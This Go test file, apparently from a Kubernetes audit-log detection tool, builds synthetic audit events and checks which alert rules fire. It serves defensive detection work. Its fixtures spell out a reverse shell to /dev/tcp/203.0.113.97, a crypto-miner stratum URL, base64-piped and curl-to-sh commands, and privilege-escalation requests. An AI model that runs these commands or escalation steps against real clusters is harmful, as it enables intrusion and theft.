package builtin_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/seawall-security/seawall/internal/rule/auditrule"
)

// What is not recorded is made of what is: an event of the corpus with some fields changed.

// set is a change of a field: its place, as /requestObject/spec/type, and its new value; nil: none.
// A last part of a list may be "-": behind its end.
type set struct {
	at    string
	value any
}

// object reads JSON that a value is given as.
func object(text string) any {
	var v any
	if err := json.Unmarshal([]byte(text), &v); err != nil {
		panic(err)
	}
	return v
}

// first is the first event of a file that is such a request.
func first(t testing.TB, file, user, verb, resource string) []byte {
	t.Helper()
	for _, line := range recorded(t, file) {
		var e struct {
			Stage, Verb string
			User        struct{ Username string }
			ObjectRef   struct{ Resource, Subresource string }
		}
		if err := json.Unmarshal(line, &e); err != nil {
			t.Fatal(err)
		}
		of := e.ObjectRef.Resource
		if e.ObjectRef.Subresource != "" {
			of += "/" + e.ObjectRef.Subresource
		}
		if e.User.Username == user && e.Verb == verb && of == resource {
			return line
		}
	}
	t.Fatalf("%s has no %s %s by %s", file, verb, resource, user)
	return nil
}

// made is an event with changes.
func made(t testing.TB, line []byte, changes ...set) []byte {
	t.Helper()
	var e any
	if err := json.Unmarshal(line, &e); err != nil {
		t.Fatal(err)
	}
	// What is not made by a change to another verb was there.
	if r, ok := e.(map[string]any)["responseStatus"].(map[string]any); ok && r["code"] == 201.0 &&
		slices.ContainsFunc(changes, func(c set) bool { return c.at == "/verb" && c.value != "create" }) {
		r["code"] = 200.0
	}
	for _, c := range changes {
		e = changed(e, strings.Split(strings.TrimPrefix(c.at, "/"), "/"), c.value)
	}
	out, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func changed(v any, at []string, value any) any {
	if len(at) == 0 {
		return value
	}
	name := strings.ReplaceAll(at[0], "~1", "/")
	if list, ok := v.([]any); ok {
		if name == "-" {
			return append(list, changed(nil, at[1:], value))
		}
		i, err := strconv.Atoi(name)
		if err != nil || i >= len(list) {
			panic(fmt.Sprintf("no element %s", name))
		}
		list[i] = changed(list[i], at[1:], value)
		return list
	}
	fields, _ := v.(map[string]any)
	if fields == nil {
		fields = make(map[string]any)
	}
	if value == nil && len(at) == 1 {
		delete(fields, name)
	} else {
		fields[name] = changed(fields[name], at[1:], value)
	}
	return fields
}

// times is the same request many times, a step apart, each with its own id, and what vary changes.
func times(t testing.TB, n int, step time.Duration, line []byte, vary func(i int) []set) [][]byte {
	t.Helper()
	begin := time.Date(2026, 11, 21, 19, 0, 0, 0, time.UTC)
	var lines [][]byte
	for i := range n {
		at := begin.Add(time.Duration(i) * step).Format("2006-01-02T15:04:05.000000Z")
		changes := []set{
			{"/auditID", fmt.Sprintf("00000000-0000-4000-8000-%012d", i)},
			{"/requestReceivedTimestamp", at}, {"/stageTimestamp", at},
		}
		if vary != nil {
			changes = append(changes, vary(i)...)
		}
		lines = append(lines, made(t, line, changes...))
	}
	return lines
}

// of is the place of an attack in the corpus.
func of(scenario string) string { return "attacks/dev/" + scenario + ".jsonl.gz" }

const (
	benign    = "benign.jsonl.gz"
	developer = "mallory@example.test"
	operator  = "bob@example.test"
	deployer  = "system:serviceaccount:ci:deployer"
)

// tells are the alerts of events, as "rule severity", sorted; attempts say so.
func tells(t testing.TB, rules *auditrule.Set, lines ...[]byte) []string {
	t.Helper()
	var got []string
	for _, a := range evaluate(rules, decoded(t, lines...)) {
		text := a.rule + " " + severity(a)
		if a.attempt {
			text += ", refused"
		}
		got = append(got, text)
	}
	slices.Sort(got)
	return got
}

func forbidden(message string) []set {
	return []set{{"/responseStatus", object(`{"code": 403, "reason": "Forbidden"}`)}, {"/responseStatus/message", message}, {"/responseObject", nil}}
}

func one(line []byte) [][]byte { return [][]byte{line} }

// madeCase is requests and the alerts they raise.
type madeCase struct {
	name  string
	lines [][]byte
	want  []string
}

func madeCases(t testing.TB) []madeCase {
	t.Helper()
	exec := first(t, of("exec_into_pod"), developer, "get", "pods/exec")
	pod := first(t, of("privileged_pod"), developer, "create", "pods")
	plain := made(t, pod, set{"/requestObject/spec/containers/0/securityContext", nil}, set{"/responseObject/spec/containers/0/securityContext", nil})
	deployment := first(t, of("miner_image"), developer, "create", "deployments")
	quiet := made(t, deployment, set{"/requestObject/spec/template/spec/containers/0/image", "registry.local/shop/web:1.0"}, set{"/responseObject", nil}, set{"/requestObject/spec/template/spec/containers/0/name", "web"})
	cronjob := first(t, of("cronjob_persistence"), developer, "create", "cronjobs")
	daemonset := first(t, benign, operator, "create", "daemonsets")
	daemonsetPatch := first(t, of("daemonset_image_patch"), operator, "patch", "daemonsets")
	role := first(t, of("wildcard_clusterrole"), operator, "create", "clusterroles")
	binding := first(t, of("bind_cluster_admin_sa"), operator, "create", "clusterrolebindings")
	service := first(t, of("dashboard_nodeport"), operator, "create", "services")
	ingress := first(t, benign, deployer, "create", "ingresses")
	webhook := first(t, of("mutating_webhook_external"), operator, "create", "mutatingwebhookconfigurations")
	injected := first(t, benign, "system:serviceaccount:operators:cert-manager", "patch", "mutatingwebhookconfigurations")
	token := first(t, of("token_request_other_sa"), operator, "create", "serviceaccounts/token")
	nodeProxy := first(t, of("nodes_proxy"), operator, "get", "nodes/proxy")
	csr := first(t, of("csr_create_approve"), operator, "create", "certificatesigningrequests")
	approval := first(t, of("csr_create_approve"), operator, "update", "certificatesigningrequests/approval")
	secrets := first(t, of("list_all_secrets"), operator, "list", "secrets")
	newSecret := first(t, benign, "alice@example.test", "create", "secrets")
	deleted := first(t, of("mass_delete"), operator, "delete", "configmaps")
	dns := first(t, of("coredns_rewrite"), operator, "patch", "configmaps")
	namespace := first(t, benign, operator, "delete", "namespaces")
	ephemeral := first(t, of("ephemeral_container"), operator, "patch", "pods/ephemeralcontainers")
	forward := first(t, of("portforward_db"), operator, "get", "pods/portforward")
	masters := first(t, of("impersonate_masters"), operator, "list", "secrets")
	unauthorized := first(t, benign, "", "list", "namespaces")
	anonymous := first(t, of("bind_anonymous_and_use"), "system:anonymous", "list", "namespaces")
	probe := first(t, benign, "system:anonymous", "get", "")
	stolen := first(t, of("sa_token_outside"), "system:serviceaccount:shop:web", "list", "pods")
	review := first(t, of("can_i_scan"), developer, "create", "selfsubjectrulesreviews")
	certManager := first(t, benign, "system:serviceaccount:operators:cert-manager", "watch", "secrets")
	nodeStatus := first(t, benign, "system:node:node-1", "patch", "nodes/status")
	newNamespace := first(t, benign, operator, "create", "namespaces")
	event := first(t, of("delete_events"), operator, "delete", "events")

	return []madeCase{
		// Ways in.
		{"attach in kube-system", one(made(t, exec, set{"/objectRef/subresource", "attach"}, set{"/objectRef/namespace", "kube-system"}, set{"/requestURI", "/api/v1/namespaces/kube-system/pods/x/attach?container=c&stdin=true&tty=true"})), []string{"audit-exec-into-system-namespace high", "audit-pod-exec low"}},
		{"exec in kube-system refused", one(made(t, exec, append(forbidden("pods \"x\" is forbidden"), set{"/objectRef/namespace", "kube-system"}, set{"/requestURI", "/api/v1/namespaces/kube-system/pods/x/exec?command=sh"})...)), []string{"audit-exec-into-system-namespace medium, refused", "audit-pod-exec info, refused"}},
		{"exec by POST", one(made(t, exec, set{"/verb", "create"}, set{"/requestURI", "/api/v1/namespaces/shop/pods/x/exec?command=sh&tty=true"})), []string{"audit-pod-exec low"}},
		{"exec of another namespace's account", one(made(t, exec, set{"/user/username", "system:serviceaccount:shop:web"}, set{"/objectRef/namespace", "payments"}, set{"/requestURI", "/api/v1/namespaces/payments/pods/x/exec?command=ls"})), []string{"audit-pod-exec medium"}},
		{"exec in an account's own namespace", one(made(t, exec, set{"/user/username", "system:serviceaccount:shop:web"}, set{"/requestURI", "/api/v1/namespaces/shop/pods/x/exec?command=ls"})), []string{"audit-pod-exec low"}},
		{"reverse shell by exec", one(made(t, exec, set{"/requestURI", "/api/v1/namespaces/shop/pods/x/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.97%2F4444+0%3E%261"})), []string{"audit-pod-exec low", "audit-pod-exec-suspicious-command high"}},
		{"health check by exec", one(made(t, exec, set{"/requestURI", "/api/v1/namespaces/shop/pods/x/exec?command=curl&command=-s&command=http%3A%2F%2Flocalhost%3A8080%2Fhealth"})), []string{"audit-pod-exec low"}},
		{"pg_dump by exec", one(made(t, exec, set{"/requestURI", "/api/v1/namespaces/shop/pods/x/exec?command=pg_dump&command=-U&command=shop&command=shop"})), []string{"audit-pod-exec low"}},
		{"kubelet run", one(made(t, nodeProxy, set{"/verb", "create"}, set{"/requestURI", "/api/v1/nodes/node-1/proxy/run/payments/db-1/db?cmd=id"})), []string{"audit-node-proxy high"}},
		{"kubelet metrics", one(made(t, nodeProxy, set{"/requestURI", "/api/v1/nodes/node-1/proxy/metrics/cadvisor"})), nil},
		{"kubelet logs refused", one(made(t, nodeProxy, append(forbidden("nodes \"node-1\" is forbidden"), set{"/requestURI", "/api/v1/nodes/node-1/proxy/logs/"})...)), []string{"audit-node-proxy low, refused"}},
		{"service proxy to a dashboard", one(made(t, forward, set{"/objectRef/resource", "services"}, set{"/objectRef/subresource", "proxy"}, set{"/objectRef/namespace", "kube-system"}, set{"/objectRef/name", "https:kubernetes-dashboard:"})), []string{"audit-port-forward medium"}},
		{"pod proxy", one(made(t, forward, set{"/objectRef/subresource", "proxy"}, set{"/objectRef/name", "web-1"})), []string{"audit-port-forward low"}},
		{"unprivileged debug container", one(made(t, ephemeral, set{"/requestObject/spec/ephemeralContainers/0/securityContext", nil})), []string{"audit-ephemeral-container medium"}},

		// Workloads.
		{"plain pod", one(plain), nil},
		{"privileged deployment", one(made(t, quiet, set{"/requestObject/spec/template/spec/containers/0/securityContext/privileged", true})), []string{"audit-privileged-pod medium"}},
		{"privileged init container of a cronjob", one(made(t, cronjob, set{"/responseObject", nil}, set{"/requestObject/spec/jobTemplate/spec/template/spec/containers/0/command", nil}, set{"/requestObject/spec/jobTemplate/spec/template/spec/initContainers", object(`[{"name": "i", "image": "docker.io/library/busybox:1.36", "securityContext": {"privileged": true}}]`)})), []string{"audit-cronjob-or-job-created low", "audit-privileged-pod medium"}},
		{"privileged by a patch", one(made(t, quiet, set{"/verb", "patch"}, set{"/requestObject", object(`{"spec": {"template": {"spec": {"containers": [{"name": "web", "securityContext": {"privileged": true}}]}}}}`)}, set{"/responseObject", object(`{"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "optimizer"}, "spec": {"template": {"spec": {"containers": [{"name": "web", "image": "registry.local/shop/web:1.0", "securityContext": {"privileged": true}}]}}}}`)})), []string{"audit-privileged-pod medium"}},
		{"label of a privileged deployment", one(made(t, quiet, set{"/verb", "patch"}, set{"/requestObject", object(`{"metadata": {"labels": {"a": "b"}}}`)}, set{"/responseObject", object(`{"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "optimizer"}, "spec": {"template": {"spec": {"containers": [{"name": "web", "image": "registry.local/shop/web:1.0", "securityContext": {"privileged": true}}]}}}}`)})), nil},
		{"dry run of a privileged pod", one(made(t, pod, set{"/requestURI", "/api/v1/namespaces/payments/pods?dryRun=All"})), nil},
		{"privileged pod refused by pod security", one(made(t, pod, forbidden("violates PodSecurity \"baseline:latest\"")...)), []string{"audit-privileged-pod low, refused"}},
		{"privileged network agent", one(made(t, daemonset, set{"/objectRef/namespace", "kube-system"}, set{"/user/username", "kubernetes-admin"}, set{"/user/groups", []any{"kubeadm:cluster-admins", "system:authenticated"}}, set{"/requestObject/spec/template/spec/containers/0/securityContext/privileged", true}, set{"/responseObject", nil})), []string{"audit-host-namespace-pod low", "audit-pod-in-system-namespace low", "audit-privileged-pod low", "audit-sensitive-hostpath low"}},
		{"privileged agent elsewhere", one(made(t, daemonset, set{"/requestObject/spec/template/spec/containers/0/securityContext/privileged", true}, set{"/responseObject", nil})), []string{"audit-host-namespace-pod high", "audit-privileged-pod high", "audit-sensitive-hostpath low"}},
		{"pods of a replica set", one(made(t, pod, set{"/user/username", "system:serviceaccount:kube-system:replicaset-controller"}, set{"/userAgent", "kube-controller-manager/v1.35.4"})), nil},
		{"runtime socket in a deployment", one(made(t, quiet, set{"/requestObject/spec/template/spec/volumes", object(`[{"name": "s", "hostPath": {"path": "/var//run/../run/docker.sock"}}]`)})), []string{"audit-sensitive-hostpath high"}},
		{"whole /run", one(made(t, quiet, set{"/requestObject/spec/template/spec/volumes", object(`[{"name": "s", "hostPath": {"path": "/run"}}]`)})), []string{"audit-sensitive-hostpath high"}},
		{"time zone of the host", one(made(t, quiet, set{"/requestObject/spec/template/spec/volumes", object(`[{"name": "s", "hostPath": {"path": "/etc/localtime"}}]`)})), nil},
		{"log agent", one(made(t, daemonset, set{"/responseObject", nil}, set{"/requestObject/spec/template/spec/hostPID", nil}, set{"/requestObject/spec/template/spec/hostNetwork", nil}, set{"/requestObject/spec/template/spec/volumes/0/hostPath/path", "/var/log"})), []string{"audit-sensitive-hostpath low"}},
		{"writable root in a daemonset", one(made(t, daemonset, set{"/responseObject", nil}, set{"/requestObject/spec/template/spec/volumes/0/hostPath/path", "/"}, set{"/requestObject/spec/template/spec/containers/0/volumeMounts/0/readOnly", nil})), []string{"audit-host-namespace-pod low", "audit-sensitive-hostpath high"}},
		{"host network of a cronjob", one(made(t, cronjob, set{"/responseObject", nil}, set{"/requestObject/spec/jobTemplate/spec/template/spec/containers/0/command", nil}, set{"/requestObject/spec/jobTemplate/spec/template/spec/hostNetwork", true})), []string{"audit-cronjob-or-job-created low", "audit-host-namespace-pod medium"}},
		{"host network of an add-on", one(made(t, quiet, set{"/objectRef/namespace", "kube-system"}, set{"/user/username", "system:serviceaccount:kube-system:addon-manager"}, set{"/userAgent", "addon-manager/v1"}, set{"/requestObject/spec/template/spec/hostNetwork", true})), []string{"audit-host-namespace-pod low", "audit-pod-in-system-namespace low"}},
		{"capabilities", one(made(t, plain, set{"/requestObject/spec/containers/0/securityContext/capabilities/add", []any{"SYS_ADMIN"}}, set{"/responseObject", nil})), []string{"audit-dangerous-capabilities high"}},
		{"capabilities of a mesh", one(made(t, quiet, set{"/requestObject/spec/template/spec/initContainers", object(`[{"name": "i", "image": "docker.io/istio/proxyv2:1.22", "securityContext": {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}}}]`)})), nil},
		{"daemonset in kube-system", one(made(t, daemonset, set{"/objectRef/namespace", "kube-system"}, set{"/responseObject", nil})), []string{"audit-host-namespace-pod low", "audit-pod-in-system-namespace medium", "audit-sensitive-hostpath low"}},
		{"service account in kube-system by a tenant", one(made(t, first(t, benign, deployer, "create", "serviceaccounts"), set{"/objectRef/namespace", "kube-system"})), []string{"audit-pod-in-system-namespace medium"}},
		{"node debugger", one(made(t, pod, set{"/objectRef/name", "node-debugger-node-1-x7k2p"}, set{"/user/username", operator}, set{"/responseObject", nil}, set{"/requestObject/spec/containers/0/securityContext", nil}, set{"/requestObject/spec/nodeName", "node-1"}, set{"/requestObject/spec/hostPID", true}, set{"/requestObject/spec/hostNetwork", true}, set{"/requestObject/spec/hostIPC", true}, set{"/requestObject/spec/volumes", object(`[{"name": "host-root", "hostPath": {"path": "/"}}]`)})), []string{"audit-debug-node-pod high", "audit-host-namespace-pod high", "audit-sensitive-hostpath high"}},
		{"copy of a pod to debug", one(made(t, plain, set{"/objectRef/name", "web-debug"}, set{"/requestObject/metadata/labels", object(`{"app.kubernetes.io/managed-by": "kubectl-debug"}`)})), nil},
		{"stratum in the arguments", one(made(t, quiet, set{"/requestObject/spec/template/spec/containers/0/args", []any{"-o", "stratum+tcp://203.0.113.97:3333", "-u", "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx", "--donate-level", "1"}})), []string{"audit-miner-image-pod high"}},
		{"an image that only sounds like coins", one(made(t, quiet, set{"/requestObject/spec/template/spec/containers/0/image", "registry.local/shop/coinbase-prices:2"})), nil},
		{"cronjob patched to a reverse shell", one(made(t, cronjob, set{"/verb", "patch"}, set{"/requestObject", object(`[{"op": "replace", "path": "/spec/jobTemplate/spec/template/spec/containers/0/command", "value": ["/bin/sh", "-c", "echo YmFzaA== | base64 -d | sh"]}]`)}, set{"/responseObject/spec/jobTemplate/spec/template/spec/containers/0/command", []any{"/bin/sh", "-c", "echo YmFzaA== | base64 -d | sh"}})), []string{"audit-cronjob-or-job-created low", "audit-suspicious-pod-command high"}},
		{"job of CI that installs", one(made(t, quiet, set{"/user/username", deployer}, set{"/requestObject/spec/template/spec/containers/0/command", []any{"sh", "-c", "curl -fsSL https://get.example.com | sh && make test"}})), []string{"audit-suspicious-pod-command medium"}},
		{"sidecar added", one(made(t, daemonsetPatch, set{"/requestObject", object(`{"spec": {"template": {"spec": {"containers": [{"name": "helper", "image": "registry.local/tools/helper:1"}]}}}}`)}, set{"/responseObject/spec/template/spec/containers/-", object(`{"name": "helper", "image": "registry.local/tools/helper:1"}`)}, set{"/responseObject/spec/template/spec/containers/0/image", "quay.io/prometheus/node-exporter:v1.8.1"})), []string{"audit-sidecar-injection high", "audit-workload-image-replaced high"}},
		{"sidecar added by a JSON patch", one(made(t, quiet, set{"/verb", "patch"}, set{"/requestObject", object(`[{"op": "add", "path": "/spec/template/spec/containers/-", "value": {"name": "helper", "image": "registry.local/tools/helper:1"}}]`)}, set{"/responseObject", object(`{"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "optimizer"}, "spec": {"template": {"spec": {"containers": [{"name": "web", "image": "registry.local/shop/web:1.0"}, {"name": "helper", "image": "registry.local/tools/helper:1"}]}}}}`)})), []string{"audit-sidecar-injection medium"}},
		{"new tag of a daemonset", one(first(t, benign, operator, "patch", "daemonsets")), []string{"audit-workload-image-replaced low"}},
		{"pod with a controller's account", one(made(t, plain, set{"/objectRef/namespace", "kube-system"}, set{"/user/username", operator}, set{"/objectRef/name", "tools"}, set{"/requestObject/spec/serviceAccountName", "clusterrole-aggregation-controller"}, set{"/responseObject", nil})), []string{"audit-controller-sa-assigned high", "audit-pod-chosen-account medium", "audit-pod-in-system-namespace medium"}},
		{"pod with an account of choice", one(made(t, plain, set{"/objectRef/namespace", "ci"}, set{"/user/username", operator}, set{"/requestObject/spec/serviceAccountName", "deployer"}, set{"/responseObject", nil})), []string{"audit-pod-chosen-account low"}},
		{"volume of a host's path", one(made(t, pod, set{"/objectRef/resource", "persistentvolumes"}, set{"/requestObject", object(`{"kind": "PersistentVolume", "spec": {"hostPath": {"path": "/etc/kubernetes"}}}`)}, set{"/responseObject", nil})), []string{"audit-sensitive-persistent-volume high"}},
		{"volume of a provisioner", one(made(t, pod, set{"/objectRef/resource", "persistentvolumes"}, set{"/requestObject", object(`{"kind": "PersistentVolume", "spec": {"local": {"path": "/mnt/disks/1"}}}`)}, set{"/responseObject", nil})), nil},
		{"host port", one(made(t, quiet, set{"/requestObject/spec/template/spec/containers/0/ports", object(`[{"containerPort": 80, "hostPort": 8080}]`)})), []string{"audit-host-port low"}},

		// Roles.
		{"role widened by a JSON patch", one(made(t, role, set{"/verb", "patch"}, set{"/requestObject", object(`[{"op": "add", "path": "/rules/-", "value": {"verbs": ["escalate", "bind"], "apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"]}}]`)}, set{"/responseObject/rules", object(`[{"verbs": ["get"], "apiGroups": [""], "resources": ["pods"]}, {"verbs": ["escalate", "bind"], "apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"]}]`)})), []string{"audit-dangerous-role high"}},
		{"role of an operator", one(made(t, role, set{"/user/username", deployer}, set{"/userAgent", "Helm/3.14.4"}, set{"/responseObject", nil}, set{"/requestObject/rules", object(`[{"verbs": ["get", "list", "watch"], "apiGroups": [""], "resources": ["secrets"]}]`)})), []string{"audit-dangerous-role low"}},
		{"role of a reader", one(made(t, role, set{"/responseObject", nil}, set{"/requestObject/rules", object(`[{"verbs": ["get", "list"], "apiGroups": [""], "resources": ["pods", "pods/log"]}]`)})), nil},
		{"binding to all service accounts", one(made(t, binding, set{"/responseObject", nil}, set{"/requestObject/roleRef/name", "view"}, set{"/requestObject/subjects", object(`[{"kind": "Group", "name": "system:serviceaccounts"}]`)})), []string{"audit-anonymous-binding high"}},
		{"binding for joining nodes", one(made(t, binding, set{"/responseObject", nil}, set{"/objectRef/namespace", "kube-public"}, set{"/objectRef/resource", "rolebindings"}, set{"/requestObject/roleRef/name", "kubeadm:bootstrap-signer-clusterinfo"}, set{"/requestObject/subjects", object(`[{"kind": "User", "name": "system:anonymous"}]`)})), nil},
		{"subjects added to a binding of power", one(made(t, binding, set{"/verb", "patch"}, set{"/requestObject", object(`{"subjects": [{"kind": "User", "name": "x"}]}`)})), []string{"audit-cluster-admin-binding high"}},
		{"binding of power refused", one(made(t, binding, forbidden("user is attempting to grant RBAC permissions not currently held")...)), []string{"audit-cluster-admin-binding medium, refused"}},
		{"binding of power in one namespace", one(made(t, binding, set{"/objectRef/resource", "rolebindings"}, set{"/objectRef/namespace", "team-a"})), []string{"audit-cluster-admin-binding medium"}},
		{"built-in role deleted", one(made(t, role, set{"/verb", "delete"}, set{"/objectRef/name", "system:node-proxier"}, set{"/requestObject", nil}, set{"/responseObject", nil})), []string{"audit-system-role-tampered high"}},

		// Identities.
		{"probes without credentials", one(probe), nil},
		{"metrics without credentials", one(made(t, probe, set{"/requestURI", "/metrics"})), []string{"audit-anonymous-request-allowed high"}},
		{"discovery without credentials", one(made(t, probe, set{"/requestURI", "/apis"})), []string{"audit-anonymous-request-allowed low"}},
		{"pods without credentials", one(made(t, anonymous, set{"/requestURI", "/api/v1/pods"}, set{"/objectRef/resource", "pods"})), []string{"audit-anonymous-request-allowed high"}},
		{"expired token", times(t, 10, time.Second, unauthorized, nil), nil},
		{"guessed tokens", times(t, 27, 100*time.Millisecond, unauthorized, nil), []string{"audit-token-brute-force medium, refused"}},
		{"from outside, claiming inside", one(made(t, secrets, set{"/sourceIPs", []any{"10.77.0.11", "203.0.113.66"}}, set{"/objectRef/resource", "pods"})), []string{"audit-forwarded-from-inside medium"}},
		{"through a proxy inside", one(made(t, secrets, set{"/sourceIPs", []any{"203.0.113.66", "10.77.0.5"}}, set{"/objectRef/resource", "pods"})), []string{"audit-forwarded-from-inside info"}},
		{"token of a pod from the pod", one(made(t, stolen, set{"/sourceIPs", []any{"10.244.0.7"}}, set{"/userAgent", "web/1.0"})), nil},
		{"token of a pod from two addresses", append(one(made(t, stolen, set{"/sourceIPs", []any{"10.244.0.7"}}, set{"/userAgent", "web/1.0"})), made(t, stolen, set{"/auditID", "x"}, set{"/sourceIPs", []any{"10.77.0.66"}}, set{"/userAgent", "web/1.0"})), []string{"audit-sa-token-two-places low"}},
		{"operator's token by hand", append(one(certManager), made(t, certManager, set{"/auditID", "x"}, set{"/verb", "list"}, set{"/objectRef/resource", "pods"}, set{"/userAgent", "kubectl/v1.35.4 (linux/amd64) kubernetes/$Format"})), []string{"audit-sa-used-by-hand medium"}},
		{"operator's token by hand from outside", one(made(t, certManager, set{"/verb", "list"}, set{"/objectRef/resource", "pods"}, set{"/sourceIPs", []any{"203.0.113.97"}}, set{"/userAgent", "kubectl/v1.35.4 (linux/amd64) kubernetes/$Format"})), []string{"audit-sa-from-outside low"}},
		{"CI with kubectl and Helm", append(one(made(t, ingress, set{"/userAgent", "kubectl/v1.35.4"}, set{"/requestObject/spec/tls", object(`[{"hosts": ["a"]}]`)}, set{"/responseObject", nil})), made(t, ingress, set{"/auditID", "x"}, set{"/requestObject/spec/tls", object(`[{"hosts": ["a"]}]`)}, set{"/responseObject", nil})), nil},
		{"controller's account by hand", one(made(t, certManager, set{"/user/username", "system:serviceaccount:kube-system:clusterrole-aggregation-controller"}, set{"/userAgent", "curl/8.5.0"}, set{"/verb", "list"})), []string{"audit-machine-identity-by-hand high", "audit-secret-access-unusual medium", "audit-secrets-enumeration high"}},
		{"token for a year", one(made(t, token, set{"/objectRef/namespace", "shop"})), []string{"audit-sa-token-request medium"}},
		{"token for CI", one(made(t, token, set{"/objectRef/namespace", "shop"}, set{"/requestObject/spec/expirationSeconds", 3600}, set{"/responseObject", nil})), []string{"audit-sa-token-request low"}},
		{"token by the kubelet", one(first(t, benign, "system:node:node-1", "create", "serviceaccounts/token")), nil},
		{"token refused", one(made(t, token, forbidden("serviceaccounts \"coredns\" is forbidden")...)), []string{"audit-sa-token-request low, refused"}},
		{"lasting token", one(made(t, newSecret, set{"/requestObject/type", "kubernetes.io/service-account-token"}, set{"/requestObject/metadata/annotations", object(`{"kubernetes.io/service-account.name": "deployer"}`)}, set{"/responseObject", nil})), []string{"audit-long-lived-token medium"}},
		{"ordinary secret", one(newSecret), nil},
		{"certificate for system:masters refused", one(made(t, csr, forbidden("use of kubernetes.io/kube-apiserver-client signer with system:masters group is not allowed")...)), []string{"audit-csr-client-cert medium, refused"}},
		{"certificate of a kubelet", one(made(t, csr, set{"/user/username", "system:bootstrap:abcdef"}, set{"/user/groups", []any{"system:bootstrappers"}}, set{"/requestObject/spec/signerName", "kubernetes.io/kube-apiserver-client-kubelet"}, set{"/responseObject", nil})), nil},
		{"another's certificate approved", one(made(t, approval, set{"/responseObject/spec/username", "alice@example.test"}, set{"/requestObject/spec/username", "alice@example.test"})), []string{"audit-csr-approved medium"}},
		{"impersonation of an account of kube-system", one(made(t, masters, set{"/impersonatedUser", object(`{"username": "system:serviceaccount:kube-system:namespace-controller", "groups": ["system:serviceaccounts"]}`)}, set{"/objectRef/resource", "pods"})), []string{"audit-impersonation high"}},
		{"impersonation of a colleague", one(made(t, masters, set{"/impersonatedUser", object(`{"username": "alice@example.test", "groups": ["system:authenticated"]}`)}, set{"/objectRef/resource", "pods"})), []string{"audit-impersonation low"}},
		{"impersonation refused", one(made(t, masters, append(forbidden(`groups "system:masters" is forbidden: User "bob@example.test" cannot impersonate resource "groups" in API group "" at the cluster scope`), set{"/impersonatedUser", nil}, set{"/objectRef/resource", "pods"})...)), []string{"audit-impersonation low, refused"}},
		{"attack tool", one(made(t, secrets, set{"/userAgent", "kube-hunter/0.6"}, set{"/objectRef/resource", "pods"})), []string{"audit-pentest-useragent high"}},
		{"the same review again", times(t, 30, time.Second, review, nil), nil},
		{"reviews over namespaces", times(t, 6, time.Second, review, func(i int) []set {
			return []set{{"/requestObject/spec/namespace", fmt.Sprint("team-", i)}}
		}), []string{"audit-permission-self-review medium"}},
		{"refused everywhere", times(t, 9, time.Second, secrets, func(i int) []set {
			return append(forbidden("forbidden"), set{"/objectRef/resource", "configmaps"}, set{"/objectRef/namespace", fmt.Sprint("team-", i)})
		}), []string{"audit-denied-burst medium, refused"}},
		{"a controller without rights", times(t, 30, time.Second, first(t, benign, "system:serviceaccount:operators:metallb", "list", "nodes"), nil), nil},

		// Secrets.
		{"secrets of all namespaces by a backup operator", one(first(t, benign, "system:serviceaccount:operators:velero", "list", "secrets")), nil},
		{"secrets watched by an ingress controller", one(certManager), nil},
		{"secrets of all namespaces by CI with kubectl", one(made(t, secrets, set{"/user/username", deployer})), []string{"audit-sa-from-outside low", "audit-secrets-enumeration high"}},
		{"helm list", one(made(t, secrets, set{"/userAgent", "Helm/3.14.4"}, set{"/requestURI", "/api/v1/secrets?labelSelector=owner%3Dhelm"})), []string{"audit-secrets-enumeration low"}},
		{"secrets of namespaces refused", times(t, 5, time.Second, secrets, func(i int) []set {
			return append(forbidden("secrets is forbidden"), set{"/objectRef/namespace", fmt.Sprint("team-", i)})
		}), []string{"audit-secrets-sweep medium, refused"}},
		{"secrets one by one", times(t, 12, time.Second, secrets, func(i int) []set {
			return []set{{"/verb", "get"}, {"/objectRef/namespace", "shop"}, {"/objectRef/name", fmt.Sprint("s-", i)}}
		}), []string{"audit-secrets-burst medium"}},
		{"secrets of pods by their node", one(made(t, secrets, set{"/verb", "get"}, set{"/user/username", "system:node:node-1"}, set{"/user/groups", []any{"system:nodes"}}, set{"/objectRef/namespace", "shop"}, set{"/objectRef/name", "s"}, set{"/userAgent", "kubelet/v1.35.4"}, set{"/sourceIPs", []any{"127.0.0.1"}})), nil},
		{"secrets of a namespace by a node", one(made(t, secrets, set{"/user/username", "system:node:node-1"}, set{"/user/groups", []any{"system:nodes"}}, set{"/objectRef/namespace", "shop"}, set{"/sourceIPs", []any{"127.0.0.1"}})), []string{"audit-machine-identity-by-hand medium", "audit-secret-access-unusual medium"}},
		{"credential in a configmap", one(made(t, dns, set{"/objectRef/name", "settings"}, set{"/requestObject/data", object(`{"db.password": "hunter2-hunter2"}`)}, set{"/responseObject", nil})), []string{"audit-configmap-credentials medium", "audit-system-config-changed low"}},
		{"private key in a configmap", one(made(t, dns, set{"/verb", "create"}, set{"/user/username", deployer}, set{"/userAgent", "Helm/3"}, set{"/objectRef/name", "settings"}, set{"/objectRef/namespace", "shop"}, set{"/requestObject", object(`{"kind": "ConfigMap", "data": {"tls": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAwJ4abcdefghijklmnopqrstuvwxyz\n-----END RSA PRIVATE KEY-----\n"}}`)}, set{"/responseObject", nil})), []string{"audit-configmap-credentials medium"}},
		{"certificate in a configmap", one(made(t, dns, set{"/verb", "create"}, set{"/user/username", deployer}, set{"/userAgent", "Helm/3"}, set{"/objectRef/name", "ca"}, set{"/objectRef/namespace", "shop"}, set{"/requestObject", object(`{"kind": "ConfigMap", "data": {"ca.crt": "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2\n-----END CERTIFICATE-----\n"}}`)}, set{"/responseObject", nil})), nil},
		{"credential in an environment", one(made(t, quiet, set{"/requestObject/spec/template/spec/containers/0/env", object(`[{"name": "DB_PASSWORD", "value": "hunter2-hunter2"}]`)})), []string{"audit-pod-environment-credentials low"}},

		// The control plane.
